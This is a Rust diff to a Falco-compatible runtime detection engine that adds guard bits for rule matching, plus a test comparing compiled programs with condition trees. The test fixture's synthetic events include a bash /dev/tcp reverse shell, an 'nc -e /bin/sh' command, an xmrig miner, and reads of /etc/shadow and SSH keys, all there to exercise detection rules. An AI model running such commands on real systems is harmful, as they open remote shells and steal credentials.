@@ -163,12 +163,31 @@ pub struct Rule {
 
 /// Rules to evaluate for one event type: (rule number, condition specialized for the type),
 /// and the same conditions compiled into one flat program with an entry per rule.
+///
+/// Guards: the memoized checks that some rule of the bucket tests first are evaluated once,
+/// up front, into a bit mask (they would be evaluated for every event anyway). A rule whose
+/// top-level `and` requires some of them (`a and b and …`, `… and not g`) is skipped with one
+/// mask test when they do not hold, and they are left out of its program.
 #[derive(Default)]
 struct Bucket {
     nodes: Box<[(u32, eval::Node)]>,
-    /// (rule number, entry in `prog`), in definition order.
-    rules: Box<[(u32, u32)]>,
+    /// The rules, in definition order.
+    rules: Box<[Entry]>,
+    /// Checks whose results make the guard bits (bit `i` = `guards[i]` holds).
+    guards: Box<[eval::CCheck]>,
     prog: eval::Program,
+}
+
+/// A rule of a [`Bucket`].
+#[derive(Clone, Copy)]
+struct Entry {
+    rule: u32,
+    /// Entry of the rest of its condition in the program.
+    entry: u32,
+    /// Guard bits that must be set.
+    need_true: u64,
+    /// Guard bits that must be clear.
+    need_false: u64,
 }
 
 impl Bucket {
@@ -179,11 +198,94 @@ impl Bucket {
         }
     }
 
-    /// Compiles the (id-assigned) conditions into the flat program.
+    /// Chooses the guards and compiles the (id-assigned) conditions into the flat program.
     fn link(&mut self) {
+        use eval::Node;
+        // A memoized check, possibly negated: (check, wanted result).
+        fn memo_check(n: &Node) -> Option<(&eval::CCheck, bool)> {
+            match n {
+                Node::Check(c) if c.id != u32::MAX => Some((c, true)),
+                Node::Not(x) => match &**x {
+                    Node::Check(c) if c.id != u32::MAX => Some((c, false)),
+                    _ => None,
+                },
+                _ => None,
+            }
+        }
+        fn conjuncts(n: &Node) -> &[Node] {
+            match n {
+                Node::And(v) => v,
+                other => std::slice::from_ref(other),
+            }
+        }
+        // Guards: the first check evaluated for some rule (evaluated for every event anyway).
+        let mut guards: Vec<eval::CCheck> = Vec::new();
+        for (_, n) in self.nodes.iter() {
+            if let Some(c) = eval::first_check(n)
+                && c.id != u32::MAX
+                && !guards.iter().any(|g| g.id == c.id)
+                && guards.len() < 64
+            {
+                guards.push(c.clone());
+            }
+        }
         let mut prog = eval::Program::default();
-        self.rules = self.nodes.iter().map(|(i, n)| (*i, prog.add(n))).collect();
+        let mut rules = Vec::with_capacity(self.nodes.len());
+        for (i, n) in self.nodes.iter() {
+            let (mut need_true, mut need_false) = (0u64, 0u64);
+            let mut rest: Vec<Node> = Vec::new();
+            for part in conjuncts(n) {
+                let bit = memo_check(part).and_then(|(c, want)| {
+                    let at = guards.iter().position(|g| g.id == c.id)?;
+                    Some((1u64 << at, want))
+                });
+                match bit {
+                    Some((b, true)) => need_true |= b,
+                    Some((b, false)) => need_false |= b,
+                    None => rest.push(part.clone()),
+                }
+            }
+            let rest = match rest.len() {
+                0 => Node::Const(true),
+                1 => rest.pop().unwrap_or(Node::Const(true)),
+                _ => Node::And(rest.into()),
+            };
+            rules.push(Entry {
+                rule: *i,
+                entry: prog.add(&rest),
+                need_true,
+                need_false,
+            });
+        }
+        self.rules = rules.into();
+        self.guards = guards.into();
         self.prog = prog;
+    }
+
+    /// The guard bits for `ev`.
+    #[inline]
+    fn guard_bits(&self, ev: &Event, s: &mut MatchScratch) -> u64 {
+        let mut bits = 0;
+        for (i, g) in self.guards.iter().enumerate() {
+            if eval::check(g, ev, s) {
+                bits |= 1 << i;
+            }
+        }
+        bits
+    }
+
+    /// Calls `f` with the number of every rule matching `ev`, in definition order.
+    #[inline]
+    fn each_match(&self, ev: &Event, s: &mut MatchScratch, mut f: impl FnMut(u32)) {
+        let bits = self.guard_bits(ev, s);
+        for e in &self.rules {
+            if bits & e.need_true == e.need_true
+                && bits & e.need_false == 0
+                && self.prog.run(e.entry, ev, s)
+            {
+                f(e.rule);
+            }
+        }
     }
 
     fn len(&self) -> usize {
@@ -326,12 +428,8 @@ impl RuleSet {
     ) {
         scratch.reserve_checks(self.checks);
         scratch.reset();
-        let b = self.candidates(ev);
-        for &(i, entry) in &b.rules {
-            if b.prog.run(entry, ev, scratch) {
-                f(&self.compiled[i as usize].rule);
-            }
-        }
+        self.candidates(ev)
+            .each_match(ev, scratch, |i| f(&self.compiled[i as usize].rule));
     }
 
     /// Calls `f` with every enabled rule matching `ev`, in definition order.
@@ -349,12 +447,7 @@ impl RuleSet {
     fn collect(&self, ev: &Event, s: &mut MatchScratch, hits: &mut Vec<u32>) {
         s.reserve_checks(self.checks);
         s.reset();
-        let b = self.candidates(ev);
-        for &(i, entry) in &b.rules {
-            if b.prog.run(entry, ev, s) {
-                hits.push(i);
-            }
-        }
+        self.candidates(ev).each_match(ev, s, |i| hits.push(i));
     }
 
     /// For each source and event type, how many rules are evaluated for an event of that type
@@ -386,10 +479,13 @@ impl RuleSet {
             s.reserve_checks(self.checks);
             s.reset();
             let b = self.candidates(ev);
-            for &(i, entry) in &b.rules {
+            let bits = b.guard_bits(ev, &mut s);
+            for e in &b.rules {
                 let t = std::time::Instant::now();
-                let _ = b.prog.run(entry, ev, &mut s);
-                let a = &mut acc[i as usize];
+                let _ = bits & e.need_true == e.need_true
+                    && bits & e.need_false == 0
+                    && b.prog.run(e.entry, ev, &mut s);
+                let a = &mut acc[e.rule as usize];
                 a.0 += 1;
                 a.1 += t.elapsed();
             }
@@ -669,4 +765,180 @@ pub fn build_sources(sources: &[loader::Source]) -> (RuleSet, LoadReport) {
         diagnostics: diags,
     };
     (RuleSet::new(compiled), report)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use model::{Ancestor, ContainerInfo, FdInfo, ProcessInfo, UserInfo};
+
+    /// Events of many shapes: each event type of the index, files, sockets, processes from
+    /// the rule lists, host and container.
+    fn events() -> Vec<Event> {
+        let files: &[(&str, &str)] = &[
+            ("/etc/shadow", "O_RDONLY"),
+            ("/etc/passwd", "O_WRONLY|O_CREAT"),
+            ("/root/.ssh/id_rsa", "O_RDONLY|O_CLOEXEC"),
+            ("/home/u/.ssh/authorized_keys", "O_RDWR|O_TRUNC"),
+            ("/usr/bin/kdevtmpfsi", "O_WRONLY|O_CREAT|O_TRUNC"),
+            ("/etc/cron.d/job", "O_WRONLY"),
+            ("/dev/mem", "O_RDWR"),
+            ("/var/log/auth.log", "O_WRONLY|O_TRUNC"),
+            ("/proc/1/environ", "O_RDONLY"),
+            ("/etc/ld.so.cache", "O_RDONLY|O_CLOEXEC"),
+            ("/tmp/x/../../etc/shadow", "O_RDONLY"),
+            ("/host/etc/hosts", "O_RDONLY"),
+            ("/etc/apt/sources.list", "O_WRONLY"),
+            ("/root/.bash_history", "O_WRONLY|O_TRUNC"),
+        ];
+        let procs: &[(&str, &[&str])] = &[
+            ("sshd", &["-D"]),
+            ("bash", &[]),
+            ("sh", &["-c", "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1"]),
+            ("nc", &["-e", "/bin/sh", "1.2.3.4", "4444"]),
+            ("apt-get", &["install", "curl"]),
+            ("xmrig", &["-o", "stratum+tcp://pool:3333"]),
+            ("tar", &["czf", "/tmp/x.tgz", "/etc"]),
+            ("python3", &["app.py"]),
+            ("find", &["/", "-name", "id_rsa"]),
+            ("grep", &["-r", "password", "/"]),
+            ("crontab", &["-e"]),
+            ("cat", &["/etc/shadow"]),
+        ];
+        let parents = ["sh", "bash", "containerd-shim", "sshd", "systemd", "runc"];
+        let mut out = Vec::new();
+        for (k, (name, args)) in procs.iter().enumerate() {
+            for (j, parent) in parents.iter().enumerate() {
+                for in_container in [false, true] {
+                    let process = ProcessInfo {
+                        pid: 100 + k as u32,
+                        name: name.to_string(),
+                        exe: format!("/usr/bin/{name}"),
+                        exepath: format!("/usr/bin/{name}"),
+                        args: args.iter().map(|a| a.to_string()).collect(),
+                        tty: if j % 2 == 0 { 0 } else { 34816 },
+                        vpid: Some(if j == 0 { 1 } else { 7 }),
+                        user: UserInfo {
+                            uid: 0,
+                            name: "root".into(),
+                            loginuid: -1,
+                            ..Default::default()
+                        },
+                        ancestors: parents[j..]
+                            .iter()
+                            .map(|p| Ancestor {
+                                name: p.to_string(),
+                                ..Default::default()
+                            })
+                            .collect(),
+                        exe_upper_layer: in_container && k % 3 == 0,
+                        ..Default::default()
+                    };
+                    let container = in_container.then(|| ContainerInfo {
+                        id: "0123456789abcdef".into(),
+                        name: "web".into(),
+                        image: "servethehome/monero_cpu_minergate:latest".into(),
+                        image_repository: if k % 2 == 0 {
+                            "servethehome/monero_cpu_minergate".into()
+                        } else {
+                            "nginx".into()
+                        },
+                        privileged: j % 3 == 0,
+                        ..Default::default()
+                    });
+                    let base = Event {
+                        kind: "execve".into(),
+                        res: Some(0),
+                        process: Some(process),
+                        container,
+                        ..Default::default()
+                    };
+                    out.push(base.clone());
+                    for (path, flags) in files {
+                        let mut e = base.clone();
+                        e.kind = "openat".into();
+                        e.res = Some(3);
+                        e.args.insert("flags".into(), flags.to_string());
+                        e.args.insert("name".into(), path.to_string());
+                        e.fd = Some(FdInfo {
+                            typechar: 'f',
+                            path: path.to_string(),
+                            ..Default::default()
+                        });
+                        out.push(e);
+                    }
+                    for (ip, port) in [("1.2.3.4", 4444u16), ("10.0.0.1", 443), ("8.8.8.8", 53)] {
+                        for kind in ["connect", "accept4"] {
+                            let mut e = base.clone();
+                            e.kind = kind.into();
+                            e.fd = Some(FdInfo {
+                                typechar: '4',
+                                cip: "172.17.0.2".parse().ok(),
+                                cport: Some(40000),
+                                sip: ip.parse().ok(),
+                                sport: Some(port),
+                                l4proto: if port == 53 { "udp" } else { "tcp" }.into(),
+                                local_is_server: kind == "accept4",
+                                path: String::new(),
+                            });
+                            out.push(e);
+                        }
+                    }
+                    let mut e = base.clone();
+                    e.source = EventSource::Docker;
+                    e.kind = "container_start".into();
+                    e.process = None;
+                    out.push(e);
+                }
+            }
+        }
+        out
+    }
+
+    /// Guards, programs and memoized checks give exactly what evaluating each rule's
+    /// condition tree on its own gives, on the upstream Falco rules plus the built-in pack.
+    #[test]
+    fn flat_programs_match_condition_trees() {
+        let dir = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../../shared/compat/falco");
+        let mut b = RuleSetBuilder::new().builtin(true);
+        for f in [
+            "falco_rules.yaml",
+            "falco-incubating_rules.yaml",
+            "falco-sandbox_rules.yaml",
+        ] {
+            if dir.join(f).exists() {
+                b = b.add_file(dir.join(f));
+            }
+        }
+        let (rules, report) = b.build().unwrap();
+        assert!(!report.has_errors(), "{report}");
+        let guarded: usize = rules
+            .index
+            .iter()
+            .flat_map(|i| i.by_type.values())
+            .map(|b| {
+                b.rules
+                    .iter()
+                    .filter(|e| e.need_true | e.need_false != 0)
+                    .count()
+            })
+            .sum();
+        assert!(guarded > 0);
+        let mut scratch = MatchScratch::default();
+        let mut hits = 0;
+        for ev in events() {
+            let mut got = Vec::new();
+            rules.matches_with(&ev, &mut scratch, |r| got.push(r.name.clone()));
+            let mut want = Vec::new();
+            for (i, n) in rules.candidates(&ev).nodes.iter() {
+                let mut s = MatchScratch::default();
+                if eval::eval(n, &ev, &mut s) {
+                    want.push(rules.compiled[*i as usize].rule.name.clone());
+                }
+            }
+            assert_eq!(got, want, "{ev:?}");
+            hits += got.len();
+        }
+        assert!(hits > 100, "{hits}");
+    }
 }
